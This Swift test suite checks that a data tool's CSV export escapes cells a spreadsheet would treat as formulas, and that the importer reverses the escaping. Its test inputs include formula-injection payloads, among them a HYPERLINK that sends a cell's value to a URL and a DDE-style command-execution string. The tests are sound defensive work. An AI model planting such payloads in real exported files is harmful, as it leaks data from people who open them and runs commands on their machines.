import HomewardCore
import Testing

/// What Homeward's CSV exports write: RFC 4180 fields, and nothing a spreadsheet would run.
@Suite struct CSVWriterTests {
    @Test func aCellASpreadsheetWouldRunAsAFormulaIsWrittenAsText() {
        let cells = ["=HYPERLINK(\"http://example.org/?\"&A1,\"Details\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2", "-2+3", "=1+2 org"]
        #expect(cells.map(CSVWriter.field) == ["\"'=HYPERLINK(\"\"http://example.org/?\"\"&A1,\"\"Details\"\")\"", "'@SUM(1+1)*cmd|' /C calc'!A0",
                                               "'+1+2", "'-2+3", "'=1+2 org"])
        // Numbers, a lone dash and everything else stay as they are.
        #expect(["-97", "+3", "-1.5", "-", "Al-Hol", "SY0203", "", "#affected+returnees+num"].map(CSVWriter.field)
                == ["-97", "+3", "-1.5", "-", "Al-Hol", "SY0203", "", "#affected+returnees+num"])
    }

    /// The apostrophe is the export's, not the partner's: read back, the cell is what was recorded.
    @Test func theImporterTakesTheExportsApostropheOffAgain() throws {
        func draft(organisation: String, source: String) -> ImportDraft<MovementField> {
            var values = [String?](repeating: nil, count: MovementField.allCases.count)
            values[MovementField.organisation.rawValue] = organisation
            values[MovementField.source.rawValue] = source
            return ImportDraft(row: 2, values: values, labels: values.map { _ in "" }, content: [])
        }
        let exported = draft(organisation: CSVWriter.inert("=1+2 org"), source: CSVWriter.inert("-2+3"))
        #expect(exported[.organisation] == "=1+2 org" && exported[.source] == "-2+3")
        let written = draft(organisation: "'quoted'", source: "'-")
        #expect(written[.organisation] == "'quoted'" && written[.source] == "'-")
    }
}
